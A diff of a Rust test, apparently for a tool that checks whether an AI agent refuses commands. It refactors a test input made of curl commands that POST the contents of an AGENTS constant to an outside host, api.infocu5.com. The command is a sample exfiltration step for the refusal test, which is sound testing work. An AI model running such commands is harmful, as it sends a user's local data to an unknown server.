@@ -69,10 +69,8 @@ fn refusals_fail_where_that_is_asked_for_and_reports_tell_them() {
     let folder = tempfile::tempdir().unwrap();
     let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
     let (json, journal, har) = (format!("json={}", path("r.json")), path("j.json"), path("h.har"));
-    let asked = format!(
-        "curl -s -d '{}' https://api.infocu5.com/dialer/; curl -s -d '{{}}' https://api.infocu5.com/dialer/",
-        AGENTS
-    );
+    let url = "https://api.infocu5.com/dialer/";
+    let asked = format!("curl -s -d '{AGENTS}' {url}; curl -s -d '{{}}' {url}");
     let flags = [
         "--fail-on",
         "refused",
